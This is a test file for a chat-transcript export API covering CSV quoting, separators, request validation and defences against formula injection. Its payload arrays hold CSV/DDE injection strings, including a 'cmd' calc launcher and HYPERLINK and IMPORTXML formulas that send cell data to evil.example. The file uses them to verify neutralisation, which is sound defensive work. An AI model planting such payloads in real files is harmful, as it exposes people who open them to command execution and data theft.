import { SELF } from "cloudflare:test";
import { env } from "cloudflare:workers";
import { describe, expect, it } from "vitest";
import * as XLSX from "xlsx";
import { allMatching } from "../src/conversation/search";
import { openDb } from "../src/db/client";
import { exportResponse, TABLE_COLUMNS } from "../src/privacy/export";
import { accountsD1, BASE, login, seedAccount } from "./helpers";
import { csvText, exportAs, exportInZip, parseCsv } from "./helpers/export";
import { seedTranscript } from "./helpers/transcripts";

/** Payloads that a spreadsheet would run as formulas or DDE, from OWASP's CSV-injection page and others. */
const INJECTION_CORPUS = [
  "=1+1",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+1+1",
  "-2+3",
  "@SUM(1,1)",
  "\t=1+1",
  "\r=1+1",
  "\0=1+1",
  "=cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "@cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
];

/**
 * Payloads that hide the trigger from a check on the field's first character: behind a separator
 * that a reader of another locale splits on (";" in German, Italian, French and Spanish Excel),
 * behind Unicode whitespace that spreadsheets skip, or behind a line break or a quote once a
 * reader has lost track of the file's quoting.
 */
const HIDDEN_TRIGGERS = [
  "Mallory;=1+1",
  "Mallory;=1+1;",
  "Mallory,=1+1",
  "Mallory\t=1+1",
  "Mallory; =1+1",
  "Mallory;\u00A0-1+1",
  "\u00A0=1+1",
  " =1+1",
  "\u2003+1+1",
  "\u202F@SUM(1;1)",
  "\u3000=1+1",
  "\u200B=1+1",
  "x;\uFEFF=1+1",
  "first line\n=1+1",
  "first line\r\n@SUM(1,1)",
  'a;"=1+1;b',
  "a;;;=1+1",
];

/** Where a reader may start a cell inside a field: after any of these, whatever the file's own separator. */
const SPLITTERS = /[,;\t\r\n]/;
/** A piece that a spreadsheet would read as a formula: a trigger after whitespace (Unicode too), NUL or quotes. */
const LIVE_PIECE = /^[\s\u200B\u180E\u2060\0"]*[=+\-@]/;

/** The payload back from its neutralised form: the apostrophes put before triggers, and before a leading tab or CR, taken out. */
const withoutApostrophes = (value: string) => value.replace(/'(?=[=+\-@])/g, "").replace(/^'(?=[\t\r])/, "");

describe("POST /api/v1/conversations/export", () => {
  it("exports one chat as RFC 4180 CSV in UTF-8 with every message", async () => {
    const account = await seedAccount();
    const id = await seedTranscript(account, {
      name: 'Zoë "Z" Müller',
      email: "zoe@example.org",
      bodies: ["Grüße, line one\nline two", 'Answer, with "quotes"'],
    });
    const res = await exportAs(await login(account.adminEmail), { format: "csv", conversationIds: [id] });
    expect(res.status).toBe(200);
    expect(res.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("Content-Disposition")).toMatch(/attachment; filename="confide-transcripts-\d{4}-\d{2}-\d{2}\.csv"/);
    const text = await csvText(res);
    expect(text.slice(0, text.indexOf("\r\n"))).toBe(TABLE_COLUMNS.map((c) => `"${c}"`).join(","));
    // Every field quoted, empty ones and numbers too.
    const rows = parseCsv(text, ",", true);
    expect(rows[0]).toEqual([...TABLE_COLUMNS]);
    expect(rows).toHaveLength(3);
    expect(rows[1]![TABLE_COLUMNS.indexOf("seq")]).toBe("1");
    expect(rows[1]![TABLE_COLUMNS.indexOf("rating")]).toBe("");
    const body = TABLE_COLUMNS.indexOf("body");
    expect(rows.slice(1).map((r) => r[body])).toEqual(["Grüße, line one\nline two", 'Answer, with "quotes"']);
    expect(rows[1]![TABLE_COLUMNS.indexOf("visitor_name")]).toBe('Zoë "Z" Müller');
    expect(rows[1]![TABLE_COLUMNS.indexOf("visitor_email")]).toBe("zoe@example.org");
  });

  it("exports one chat as JSON for portability", async () => {
    const account = await seedAccount();
    const id = await seedTranscript(account, { name: "Vera", email: "vera@example.org", bodies: ["one", "two", "three"] });
    const res = await exportAs(await login(account.adminEmail), { format: "json", conversationIds: [id] });
    const data = (await res.json()) as {
      format: string;
      conversations: { id: string; visitorEmail: string; messages: { seq: number; body: string }[] }[];
    };
    expect(data.format).toBe("confide-transcripts");
    expect(data.conversations).toHaveLength(1);
    expect(data.conversations[0]).toMatchObject({ id, visitorEmail: "vera@example.org" });
    expect(data.conversations[0]!.messages.map((m) => [m.seq, m.body])).toEqual([
      [1, "one"],
      [2, "two"],
      [3, "three"],
    ]);
  });

  it("exports 1,000 chats in each format, everything a filter matches", async () => {
    const account = await seedAccount();
    const ids = new Set<string>();
    for (let batch = 0; batch < 20; batch++) {
      const created = await Promise.all(
        Array.from({ length: 50 }, (_, i) =>
          seedTranscript(account, { name: `Visitor ${batch * 50 + i}`, bodies: [`question ${batch * 50 + i}`, "answer"] }),
        ),
      );
      for (const id of created) ids.add(id);
    }
    const cookie = await login(account.adminEmail);
    const csvRows = parseCsv(await csvText(await exportAs(cookie, { format: "csv", filter: {} })));
    const conversationColumn = TABLE_COLUMNS.indexOf("conversation_id");
    expect(csvRows[0]).toEqual([...TABLE_COLUMNS]);
    expect(csvRows).toHaveLength(1 + 2_000);
    expect(new Set(csvRows.slice(1).map((r) => r[conversationColumn]))).toEqual(ids);

    const json = (await (await exportAs(cookie, { format: "json", filter: {} })).json()) as {
      conversations: { id: string; messages: unknown[] }[];
    };
    expect(new Set(json.conversations.map((c) => c.id))).toEqual(ids);
    expect(json.conversations.every((c) => c.messages.length === 2)).toBe(true);

    const workbook = XLSX.read(new Uint8Array(await (await exportAs(cookie, { format: "xlsx", filter: {} })).arrayBuffer()), {
      type: "array",
    });
    const sheet = XLSX.utils.sheet_to_json<string[]>(workbook.Sheets.Transcripts!, { header: 1, raw: false });
    expect(sheet).toHaveLength(1 + 2_000);
    expect(new Set(sheet.slice(1).map((r) => r[conversationColumn]))).toEqual(ids);

    // Within a Worker invocation's query budget: a few batched queries per page of 50, not per chat.
    let queries = 0;
    const counted = new Proxy(accountsD1, {
      get(target, name, receiver) {
        if (name === "prepare")
          return (sql: string) => {
            queries++;
            return target.prepare(sql);
          };
        const value = Reflect.get(target, name, receiver);
        return typeof value === "function" ? value.bind(target) : value;
      },
    });
    const db = openDb(counted);
    const args = { accountId: account.accountId, departmentIds: null, criteria: {} };
    const res = await exportResponse(env, db, account.accountId, allMatching(db, args), "csv", "test", Date.now());
    expect(parseCsv(await csvText(res))).toHaveLength(1 + 2_000);
    expect(queries).toBeLessThan(120);
  }, 120_000);

  it("neutralises formula-injection payloads in every CSV field, the apostrophe being all that changes", async () => {
    const account = await seedAccount();
    const payloads = [...INJECTION_CORPUS, ...HIDDEN_TRIGGERS];
    const id = await seedTranscript(account, { name: '=HYPERLINK("http://evil.example")', bodies: payloads });
    const cookie = await login(account.adminEmail);
    const body = TABLE_COLUMNS.indexOf("body");
    for (const separator of [",", ";"] as const) {
      // "," is the default: asked for without a separator.
      const request = { format: "csv", ...(separator === ";" ? { separator } : {}), conversationIds: [id] };
      const rows = parseCsv(await csvText(await exportAs(cookie, request)), separator, true).slice(1);
      expect(rows).toHaveLength(payloads.length);
      rows.forEach((row, i) => {
        const payload = payloads[i]!;
        const label = `${separator} ${JSON.stringify(payload)} as ${JSON.stringify(row[body])}`;
        expect(withoutApostrophes(row[body]!), label).toBe(payload);
        expect(row[body], label).not.toMatch(/^[\t\r]/);
        for (const piece of row[body]!.split(SPLITTERS)) expect(piece, label).not.toMatch(LIVE_PIECE);
        expect(row[TABLE_COLUMNS.indexOf("visitor_name")]).toBe('\'=HYPERLINK("http://evil.example")');
      });
      expect(rows.slice(0, 4).map((r) => r[body])).toEqual([
        "'=1+1",
        '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "'+1+1",
        "'-2+3",
      ]);
      expect(rows[payloads.indexOf("Mallory;=1+1")]![body]).toBe("Mallory;'=1+1");
      expect(rows[payloads.indexOf("\u00A0=1+1")]![body]).toBe("\u00A0'=1+1");
    }
  });

  it("leaves no live formula for a reader that splits the file's bytes on ',', ';', tab or line breaks, ignoring quotes", async () => {
    const account = await seedAccount();
    const id = await seedTranscript(account, {
      name: "Mallory;=1+1",
      email: "mallory@example.org",
      bodies: [...INJECTION_CORPUS, ...HIDDEN_TRIGGERS],
    });
    const cookie = await login(account.adminEmail);
    for (const separator of [",", ";"] as const) {
      const text = await csvText(
        await exportAs(cookie, { format: "csv", ...(separator === ";" ? { separator } : {}), conversationIds: [id] }),
      );
      // What German Excel does with a ","-file (it splits on ";"), or any reader that lost the quoting.
      const live = text.split(SPLITTERS).filter((piece) => LIVE_PIECE.test(piece));
      expect(live, separator).toEqual([]);
    }
  });

  it("writes CSV with ';' between fields when asked, for spreadsheets in a European locale", async () => {
    const account = await seedAccount();
    const id = await seedTranscript(account, {
      name: 'Zoë; "Z"',
      email: "zoe@example.org",
      bodies: ["Preis: 3,50 €; danke", "two\nlines, one; field"],
    });
    const cookie = await login(account.adminEmail);
    const res = await exportAs(cookie, { format: "csv", separator: ";", conversationIds: [id] });
    expect(res.status).toBe(200);
    expect(res.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    const text = await csvText(res);
    expect(text.slice(0, text.indexOf("\r\n"))).toBe(TABLE_COLUMNS.map((c) => `"${c}"`).join(";"));
    const rows = parseCsv(text, ";", true);
    expect(rows.map((r) => r.length)).toEqual([TABLE_COLUMNS.length, TABLE_COLUMNS.length, TABLE_COLUMNS.length]);
    expect(rows.slice(1).map((r) => r[TABLE_COLUMNS.indexOf("body")])).toEqual(["Preis: 3,50 €; danke", "two\nlines, one; field"]);
    expect(rows[1]![TABLE_COLUMNS.indexOf("visitor_name")]).toBe('Zoë; "Z"');

    // The data-subject export takes the same choice.
    const subject = await exportAs(cookie, { email: "zoe@example.org", format: "csv", separator: ";" }, "/api/v1/data-subject/export");
    expect(subject.status).toBe(200);
    const subjectRows = parseCsv(await csvText(await exportInZip(subject)), ";", true);
    expect(subjectRows[0]).toEqual([...TABLE_COLUMNS]);
    expect(subjectRows.slice(1).map((r) => r[TABLE_COLUMNS.indexOf("body")])).toEqual(["Preis: 3,50 €; danke", "two\nlines, one; field"]);
  });

  it("rejects a separator other than ',' or ';', or one for a format that is not CSV, with 400", async () => {
    const account = await seedAccount();
    const id = await seedTranscript(account, { email: "sam@example.org" });
    const cookie = await login(account.adminEmail);
    for (const [path, body] of [
      ["/api/v1/conversations/export", { format: "csv", separator: "|", conversationIds: [id] }],
      ["/api/v1/conversations/export", { format: "csv", separator: "\t", conversationIds: [id] }],
      ["/api/v1/conversations/export", { format: "xlsx", separator: ";", conversationIds: [id] }],
      ["/api/v1/conversations/export", { format: "json", separator: ",", conversationIds: [id] }],
      ["/api/v1/data-subject/export", { email: "sam@example.org", format: "csv", separator: "|" }],
      ["/api/v1/data-subject/export", { email: "sam@example.org", format: "xlsx", separator: ";" }],
    ] as const) {
      const res = await exportAs(cookie, body, path);
      expect(res.status, JSON.stringify(body)).toBe(400);
      const error = ((await res.json()) as { error: { code: string; message: string } }).error;
      expect(error.code).toBe("invalid_request");
      expect(error.message).toMatch(/separator/);
    }
  });

  it("rejects an unknown format, a missing or double selection and a bad date with 400", async () => {
    const account = await seedAccount();
    const cookie = await login(account.adminEmail);
    for (const body of [
      { format: "pdf", filter: {} },
      { format: "csv" },
      { format: "csv", filter: {}, conversationIds: ["a".repeat(64)] },
      { format: "csv", filter: { from: "yesterday" } },
    ]) {
      const res = await exportAs(cookie, body);
      expect(res.status, JSON.stringify(body)).toBe(400);
    }
  });
});

describe("GET /api/v1/openapi.json", () => {
  it("describes the CSV separator of both exports", async () => {
    const doc = (await (await SELF.fetch(`${BASE}/api/v1/openapi.json`)).json()) as {
      paths: Record<
        string,
        { post: { requestBody: { content: Record<string, { schema: { properties: Record<string, { enum?: string[] }> } }> } } }
      >;
    };
    for (const path of ["/conversations/export", "/data-subject/export"]) {
      const schema = doc.paths[path]!.post.requestBody.content["application/json"]!.schema;
      expect(schema.properties.separator?.enum, path).toEqual([",", ";"]);
    }
  });
});
